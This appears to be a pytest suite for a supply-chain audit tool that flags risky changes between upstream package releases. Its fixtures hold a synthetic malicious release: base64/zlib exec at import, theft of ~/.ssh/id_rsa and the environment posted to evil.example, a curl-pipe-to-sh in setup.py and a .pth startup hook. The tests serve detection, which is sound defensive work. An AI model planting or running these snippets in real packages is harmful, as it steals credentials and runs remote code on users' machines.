"""Risky upstream changes: a synthetic malicious release, real benign releases, the CLI."""

from __future__ import annotations

import base64
import hashlib
import io
import itertools
import json
import subprocess
import tarfile
import zlib
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner

from forkman.audit.review import RULES, Finding, Severity, review_delta
from forkman.cli import cli
from forkman.model.lock import IndexSource, load_lock
from tests.audit.helpers import entry, write_forks
from tests.support.index import LocalIndex

BENIGN = {
    "pyproject.toml": (
        '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n\n'
        '[project]\nname = "tinylib"\nversion = "1.0"\ndependencies = ["attrs>=22"]\n'
    ),
    "src/tinylib/__init__.py": (
        '"""A tiny library."""\n\nimport json\n\n\ndef load(text):\n    return json.loads(text)\n'
    ),
    "src/tinylib/util.py": "def add(a, b):\n    return a + b\n",
    "README.md": "# tinylib\n",
}

# An incompressible payload, like the encrypted or packed droppers seen in the wild.
PAYLOAD = base64.b64encode(
    zlib.compress(b"".join(hashlib.sha256(str(i).encode()).digest() for i in range(24)))
).decode()

MALICIOUS: dict[str, str | bytes] = {
    **BENIGN,
    "pyproject.toml": (
        '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "backend"\n'
        'backend-path = ["_build"]\n\n'
        '[project]\nname = "tinylib"\nversion = "1.1"\ndependencies = ["attrs>=22", "colourama"]\n'
    ),
    # The classic: exec of base64/zlib-decoded data at import time.
    "src/tinylib/__init__.py": (
        '"""A tiny library."""\n\nimport base64\nimport json\nimport zlib\n\n'
        f'_P = "{PAYLOAD}"\n'
        "exec(zlib.decompress(base64.b64decode(_P)))\n\n\n"
        "def load(text):\n    return json.loads(text)\n"
    ),
    # Credential reads and exfiltration over the network from a file that had neither.
    "src/tinylib/util.py": (
        "import os\nimport urllib.request\nfrom pathlib import Path\n\n\n"
        "def add(a, b):\n"
        "    key = (Path.home() / '.ssh/id_rsa').read_text()\n"
        "    env = dict(os.environ)\n"
        "    urllib.request.urlopen('https://evil.example/c', data=(key + str(env)).encode())\n"
        "    return a + b\n"
    ),
    # curl-and-run from setup.py
    "setup.py": (
        "import subprocess\nfrom setuptools import setup\n\n"
        "subprocess.call('curl -s https://evil.example/x.sh | sh', shell=True)\nsetup()\n"
    ),
    # A .pth that runs code at every interpreter start.
    "tinylib_init.pth": "import os; exec(open(os.path.expanduser('~/.cache/x')).read())\n",
    "_build/backend.py": "from setuptools.build_meta import *\n",
    "src/tinylib/_speedups.so": b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 4,
}


def write_tree(root: Path, files: Mapping[str, str | bytes]) -> Path:
    for rel, data in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, bytes):
            path.write_bytes(data)
        else:
            path.write_text(data)
    return root


def rules_by_file(findings: list[Finding]) -> set[tuple[str, str]]:
    return {(f.rule, f.file) for f in findings}


def test_malicious_release_is_caught(tmp_path: Path) -> None:
    old = write_tree(tmp_path / "old", BENIGN)
    new = write_tree(tmp_path / "new", MALICIOUS)
    findings = review_delta(old, new)
    found = rules_by_file(findings)
    expected = {
        ("exec-decoded", "src/tinylib/__init__.py"),
        ("obfuscated-blob", "src/tinylib/__init__.py"),
        ("credential-read", "src/tinylib/util.py"),
        ("network-added", "src/tinylib/util.py"),
        ("download-and-run", "setup.py"),
        ("process-added", "setup.py"),
        ("install-time-code", "setup.py"),
        ("install-hook-pth", "tinylib_init.pth"),
        ("build-backend-changed", "pyproject.toml"),
        ("new-dependency", "pyproject.toml"),
        ("binary-added", "src/tinylib/_speedups.so"),
    }
    assert expected <= found, sorted(found)
    by_key = {(f.rule, f.file): f for f in reversed(findings)}  # the first of each
    exec_finding = by_key[("exec-decoded", "src/tinylib/__init__.py")]
    assert exec_finding.line == 8
    assert exec_finding.severity is Severity.CRITICAL
    assert "b64decode" in exec_finding.message or "decompress" in exec_finding.message
    assert exec_finding.why == RULES["exec-decoded"].why
    cred = {(f.line, f.message) for f in findings if f.rule == "credential-read"}
    assert (7, "refers to '.ssh/'") in cred
    assert (8, "copies the whole environment (os.environ)") in cred
    assert "colourama" in by_key[("new-dependency", "pyproject.toml")].message
    # network/process use in install-time code is high, not medium
    assert by_key[("process-added", "setup.py")].severity >= Severity.HIGH
    # Everything a reviewer must see comes first.
    assert findings[0].severity is Severity.CRITICAL
    assert all(a.severity >= b.severity for a, b in itertools.pairwise(findings))
    # the benign README and unchanged files produce nothing
    assert not any(f.file == "README.md" for f in findings)


def test_unchanged_risky_code_is_not_reported_again(tmp_path: Path) -> None:
    old = write_tree(tmp_path / "old", MALICIOUS)
    files = dict(MALICIOUS)
    files["src/tinylib/util.py"] = str(files["src/tinylib/util.py"]) + "\n# comment\n"
    new = write_tree(tmp_path / "new", files)
    assert review_delta(old, new) == []


def test_comments_and_docstrings_mentioning_exec_are_not_findings(tmp_path: Path) -> None:
    old = write_tree(tmp_path / "old", BENIGN)
    new = write_tree(
        tmp_path / "new",
        {
            **BENIGN,
            "src/tinylib/util.py": (
                '"""Never exec(base64.b64decode(x)) user data; see subprocess docs."""\n'
                "# exec(zlib.decompress(...)) would be bad\n"
                "def add(a, b):\n    return a + b\n"
            ),
        },
    )
    assert review_delta(old, new) == []


def test_obfuscated_single_line_and_aliases_are_seen_through(tmp_path: Path) -> None:
    old = write_tree(tmp_path / "old", BENIGN)
    new = write_tree(
        tmp_path / "new",
        {
            **BENIGN,
            "src/tinylib/util.py": (
                "from base64 import b64decode as d\nimport subprocess as sp\n"
                "x = __builtins__\n"
                "eval(compile(d('cHJpbnQoMSk='), 'x', 'exec'))\n"
                "sp.Popen(['sh'])\n"
                "for k, v in __import__('os').environ.items():\n    pass\n"
            ),
        },
    )
    found = {(f.rule, f.line) for f in review_delta(old, new)}
    assert ("exec-decoded", 4) in found
    assert ("process-added", 5) in found or ("process-added", 2) in found


def test_first_import_reviews_the_whole_tree(tmp_path: Path) -> None:
    new = write_tree(tmp_path / "new", MALICIOUS)
    found = rules_by_file(review_delta(None, new))
    assert ("exec-decoded", "src/tinylib/__init__.py") in found
    assert ("install-hook-pth", "tinylib_init.pth") in found


def test_missing_tree_is_not_found(tmp_path: Path) -> None:
    from forkman.core.errors import NotFound

    with pytest.raises(NotFound):
        review_delta(None, tmp_path / "absent")


def test_every_rule_is_documented() -> None:
    doc = (Path(__file__).resolve().parents[2] / "docs" / "audit.md").read_text()
    for rule in RULES.values():
        assert rule.why
        assert f"`{rule.id}`" in doc, rule.id


# -- real releases ----------------------------------------------------------------------

ATTRS = {
    "23.1.0": (
        "https://files.pythonhosted.org/packages/97/90/"
        "81f95d5f705be17872843536b1868f351805acf6971251ff07c1b8334dbb/attrs-23.1.0.tar.gz",
        "6279836d581513a26f1bf235f9acd333bc9115683f14f7e8fae46c98fc50e015",
    ),
    "23.2.0": (
        "https://files.pythonhosted.org/packages/e3/fc/"
        "f800d51204003fa8ae392c4e8278f256206e7a919b708eef054f5f4b650d/attrs-23.2.0.tar.gz",
        "935dc3b529c262f6cf76e50877d35a4bd3c1de194fd41f47a2b7ae8f19971f30",
    ),
}


def _real_sdist_tree(version: str, dest: Path) -> Path:
    import requests

    url, sha = ATTRS[version]
    data = requests.get(url, timeout=60).content
    assert hashlib.sha256(data).hexdigest() == sha
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        tar.extractall(dest, filter="data")
    return dest / f"attrs-{version}"


@pytest.mark.network
def test_real_benign_release_is_nearly_clean(tmp_path: Path) -> None:
    old = _real_sdist_tree("23.1.0", tmp_path / "a")
    new = _real_sdist_tree("23.2.0", tmp_path / "b")
    findings = review_delta(old, new)
    for f in findings:
        print(f.severity.name, f.rule, f"{f.file}:{f.line}", f.message)
    assert len(findings) <= 3
    assert not [f for f in findings if f.severity >= Severity.HIGH]


# -- forkman review NAME ----------------------------------------------------------------


def _git(git_dir: Path, work: Path, *args: str) -> None:
    subprocess.run(
        ["git", f"--git-dir={git_dir}", f"--work-tree={work}", *args],
        check=True,
        capture_output=True,
    )


def make_history(
    project: Path, name: str, releases: Mapping[str, Mapping[str, str | bytes]]
) -> Path:
    """A bare fork repository with each release imported and tagged upstream/<v>."""
    git_dir = project / ".forkman" / "forks" / f"{name}.git"
    subprocess.run(["git", "init", "-q", "--bare", str(git_dir)], check=True)
    for version, files in releases.items():
        work = project.parent / f"work-{version}"
        write_tree(work, files)
        _git(git_dir, work, "add", "-A")
        _git(git_dir, work, "commit", "-q", "-m", f"upstream {version}")
        _git(git_dir, work, "tag", f"upstream/{version}")
    return git_dir


def run(project: Path, *args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, ["--project", str(project), *args], catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


def test_review_command_blocks_a_malicious_release(project: Path) -> None:
    make_history(project, "tinylib", {"1.0": BENIGN, "1.1": MALICIOUS})
    write_forks(project, entry("tinylib", "1.1"))
    code, out, err = run(project, "review", "tinylib")
    assert code == 1
    assert out.startswith("tinylib 1.0 -> 1.1")
    assert "critical exec-decoded" in out
    assert "why: executing decoded" in out
    assert "at or above high" in err
    # reading writes nothing; --record writes the review table
    assert "review" not in load_lock(project / "forkman.lock").forks["tinylib"].sections
    assert run(project, "review", "tinylib", "--record")[0] == 1
    section = load_lock(project / "forkman.lock").forks["tinylib"].sections["review"]
    assert section["blocked"] is True
    assert section["upstream"] == "1.0..1.1"
    code, out, _ = run(project, "review", "tinylib", "--format", "json")
    data = json.loads(out)
    assert data["blocked"] is True
    assert {"rule", "severity", "file", "line", "message", "why"} <= set(data["findings"][0])


def test_review_command_benign_delta_and_threshold(project: Path) -> None:
    v2 = {**BENIGN, "src/tinylib/util.py": "def add(a, b):\n    return b + a\n"}
    v3 = {**v2, "src/tinylib/net.py": "import socket\n"}
    make_history(project, "tinylib", {"1.0": BENIGN, "1.0.1": v2, "1.1": v3})
    write_forks(project, entry("tinylib", "1.1"))
    code, out, _ = run(project, "review", "tinylib", "--upstream", "1.0..1.0.1")
    assert code == 0
    assert "no risky changes found" in out
    code, out, _ = run(project, "review", "tinylib")  # the last two: 1.0.1..1.1
    assert code == 0  # network-added is medium, below the default threshold
    assert "network-added" in out
    (project / "pyproject.toml").write_text(
        (project / "pyproject.toml").read_text() + '\n[tool.forkman.audit]\nblock-on = "medium"\n'
    )
    code, _, _ = run(project, "review", "tinylib")
    assert code == 1


def test_review_command_bad_input(project: Path, local_index: LocalIndex) -> None:
    make_history(project, "tinylib", {"1.0": BENIGN})
    fork = entry("tinylib", "1.0")
    assert isinstance(fork.source, IndexSource)
    write_forks(project, replace(fork, source=replace(fork.source, index_url=local_index.url)))
    code, _, err = run(project, "review", "tinylib", "--upstream", "1.0")
    assert code == 2 and "A..B" in err
    code, _, err = run(project, "review", "tinylib", "--upstream", "1.0..9.9")
    assert code == 2 and "no upstream version 9.9" in err
    code, _, err = run(project, "review", "ghost")
    assert code == 2 and "no history for fork 'ghost'" in err


def test_moving_to_a_src_layout_is_not_new_code(tmp_path: Path) -> None:
    risky = {
        "tinylib/net.py": "import socket\nimport subprocess\n\nsubprocess.run(['ls'])\n",
        "tinylib/__init__.py": "",
    }
    old = write_tree(tmp_path / "old", risky)
    moved = {f"src/{k}": v for k, v in risky.items()}
    # another call of a kind the file already made is not "process spawning added"
    moved["src/tinylib/net.py"] += "subprocess.check_output(['ls'])\n"
    new = write_tree(tmp_path / "new", moved)
    assert review_delta(old, new) == []
    # ...but a genuinely new capability in the moved file is still reported
    moved["src/tinylib/net.py"] += "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    new2 = write_tree(tmp_path / "new2", moved)
    assert [f.rule for f in review_delta(old, new2)] == ["exec-decoded"]


@pytest.mark.parametrize(
    "code",
    [
        "import requests\nexec(requests.get('https://evil.example/p').text)\n",
        "from urllib.request import urlopen\nexec(urlopen('https://evil.example/p').read())\n",
        "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))\n",
        "import codecs\neval(codecs.decode('cevag(1)', 'rot13'))\n",
    ],
)
def test_exec_of_downloaded_or_decoded_data(tmp_path: Path, code: str) -> None:
    old = write_tree(tmp_path / "old", BENIGN)
    new = write_tree(tmp_path / "new", {**BENIGN, "src/tinylib/util.py": code})
    found = [f for f in review_delta(old, new) if f.rule == "exec-decoded"]
    assert [f.line for f in found] == [2]
